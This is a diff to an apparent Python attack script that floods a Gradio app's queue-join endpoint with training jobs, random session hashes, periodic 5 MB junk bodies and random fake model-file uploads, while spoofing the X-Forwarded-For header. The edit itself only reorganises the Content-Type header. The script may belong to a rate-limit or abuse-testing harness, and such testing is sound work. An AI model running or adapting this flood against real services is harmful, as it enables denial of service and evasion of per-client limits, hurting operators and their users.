@@ -35,6 +35,7 @@ ATTACKER, VICTIM = "10.66.66.66", "10.1.1.1"
 COMPANY_B = "1, 0.5, 0.25, 1"
 TICK = 0.05
 FIVE_MB = b'{"data": ["' + b"1," * 2_500_000 + b'"]}'
+JSON = {"Content-Type": "application/json"}
 
 
 def train_index(url: str) -> tuple[int, int]:
@@ -49,15 +50,15 @@ def attack(url: str, seconds: float) -> dict[str, int]:
     fn_index, inputs = train_index(url)
     data = ["builtin", "fast", 300, 0.1, 1, "cpu", None][:inputs]
     counts: dict[str, int] = {}
-    headers = {"X-Forwarded-For": ATTACKER, "Content-Type": "application/json"}
+    headers = {"X-Forwarded-For": ATTACKER}
     with httpx.Client(timeout=30, headers=headers) as client:
         end, tick = time.monotonic() + seconds, 0
         while time.monotonic() < end:
             started = time.monotonic()
             body = {"data": data, "fn_index": fn_index, "session_hash": uuid.uuid4().hex[:11], "event_data": None}
-            sent = [("train", "post", "gradio_api/queue/join", {"content": json.dumps(body)})]
+            sent = [("train", "post", "gradio_api/queue/join", {"content": json.dumps(body), "headers": JSON})]
             if tick % 10 == 0:
-                sent.append(("body 5 MB", "post", "gradio_api/queue/join", {"content": FIVE_MB}))
+                sent.append(("body 5 MB", "post", "gradio_api/queue/join", {"content": FIVE_MB, "headers": JSON}))
                 files = {"files": ("w.safetensors", os.urandom(30_000), "application/octet-stream")}
                 sent.append(("upload", "post", "gradio_api/upload", {"files": files}))
             for kind, _, route, arguments in sent:
